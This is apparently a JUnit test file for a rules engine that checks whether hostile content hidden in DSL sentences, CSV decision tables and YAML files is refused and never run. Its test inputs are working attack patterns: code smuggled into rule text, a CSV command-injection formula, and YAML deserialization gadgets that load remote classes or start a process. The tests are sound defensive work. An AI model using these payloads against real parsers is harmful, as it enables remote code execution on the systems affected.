package io.callcraft.decisions;

import java.util.stream.Stream;

import io.callcraft.shared.PolicyFiles;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

/**
 * What hides in sentences, tables and YAML is refused like what stands in a rule, and
 * nothing of it runs.
 */
class HostileFilesTests {

	private static final String EVIL = "java.lang.System.setProperty(\"callcraft.canary\", \"sang\")";

	private static final String RULE = "rule \"R\"\nwhen\n  Standing( $rep : rep )\nthen\n  insert( new Remark( $rep, \"x\" ) );\nend\n";

	private static final RuleBooks books = Trial.books();

	@AfterAll
	static void close() {
		books.close();
	}

	@AfterEach
	void nothing_ran() {
		assertThat(System.getProperty("callcraft.canary")).isNull();
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("hostile")
	void nothing_hostile_passes_in_another_guise(String what, PolicyFiles files) {
		Compilation compilation = books.compile(files);

		assertThat(compilation.release()).as(what).isNull();
		assertThat(Trial.errors(compilation)).as(what).isNotEmpty();
	}

	static Stream<Arguments> hostile() {
		return Stream.of(sentences(), tables(), yaml()).flatMap((group) -> group);
	}

	private static Stream<Arguments> sentences() {
		String rule = "rule \"R\"\nwhen\n  Somebody is there\nthen\n  All is well\nend\n";
		return Stream.of(
				"[condition]Somebody is there=Standing( " + EVIL
						+ " == null )\n[consequence]All is well=insert( new Step( null, 1 ) );\n",
				"[condition]Somebody is there=Standing()\n[consequence]All is well=" + EVIL + ";\n",
				"[condition]Somebody is there=Standing() eval( " + EVIL
						+ " == null )\n[consequence]All is well=insert( new Step( null, 1 ) );\n",
				"[condition]Somebody is there=Standing()\n[consequence]All is well=insert( new Step( null, 1 ) ); } { "
						+ EVIL + ";\n",
				"[condition]Somebody is there=Standing()\n[consequence]All is well=insert( new Step( null, 1 ) );\n[keyword]rule=function void f() { "
						+ EVIL + "; } rule\n",
				"[condition]Somebody is there=$x : Object() from " + EVIL
						+ "\n[consequence]All is well=insert( new Step( null, 1 ) );\n")
			.map((dsl) -> arguments("sentence " + dsl, Trial.files("a.dsl", dsl, "a.dslr", rule)));
	}

	private static Stream<Arguments> tables() {
		return Stream.concat(
				Stream
					.of("Import,java.io.File", "Variables,java.lang.Runtime rt", "Functions,void f() { }",
							"Queries,query stolen() Standing() end", "Declare,declare Foo x : String end")
					.map((header) -> arguments("table header " + header,
							table(header + "\n", "Standing( evidence > $param )", "1",
									"insert( new Step( null, 1 ) );"))),
				Stream.of(
						arguments("table condition",
								table("", "Standing( " + EVIL.replace("\"", "\"\"") + " == $param )", "null",
										"insert( new Step( null, 1 ) );")),
						arguments("table cell",
								table("", "Standing( evidence > $param )", EVIL.replace("\"", "\"\""),
										"insert( new Step( null, 1 ) );")),
						arguments("table formula",
								table("", "Standing( evidence > $param )", "=HYPERLINK(\"\"http://elsewhere\"\")",
										"insert( new Step( null, 1 ) );")),
						arguments("table command",
								table("", "Standing( evidence > $param )", "=cmd|' /C calc'!A0",
										"insert( new Step( null, 1 ) );")),
						arguments("table action",
								table("", "Standing( evidence > $param )", "1", EVIL.replace("\"", "\"\"") + ";"))));
	}

	private static PolicyFiles table(String header, String condition, String cell, String action) {
		return Trial.files("a.csv", "RuleSet,trial\n" + header + ",\nRuleTable Trial\nNAME,CONDITION,ACTION\n,,\n,\""
				+ condition + "\",\"" + action + "\"\nName,Value,Then\nOne,\"" + cell + "\",x\n");
	}

	private static Stream<Arguments> yaml() {
		String url = "!!java.net.URL [\"http://elsewhere/\"]";
		return Stream.of(
				arguments("scenario tag",
						Trial.files("a.drl", RULE, "a.scenario.yaml",
								"- scenario: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[" + url
										+ "]]]\n" + "  given: []\n  expect: none\n")),
				arguments("scenario fact tag",
						Trial.files("a.drl", RULE, "a.scenario.yaml",
								"- scenario: One\n  given: [ " + url + " ]\n  expect: none\n")),
				arguments("scenario fact of an unknown type",
						Trial.files("a.drl", RULE, "a.scenario.yaml",
								"- scenario: One\n  given: [ { type: java.lang.ProcessBuilder } ]\n  expect: none\n")),
				arguments("threshold tag",
						Trial.files("a.drl", RULE, "thresholds.yaml",
								"- name: x\n  value: " + url + "\n  unit: y\n  min: 0\n  max: 1\n  why: z\n")),
				arguments("document tag",
						Trial.files("a.drl", RULE, "thresholds.yaml", "!!java.lang.ProcessBuilder [[id]]\n")),
				arguments("aliases without end", Trial.files("a.drl", RULE, "thresholds.yaml",
						"- name: &a [ *a, *a ]\n  value: 1\n  unit: y\n  min: 0\n  max: 1\n  why: z\n")));
	}

}
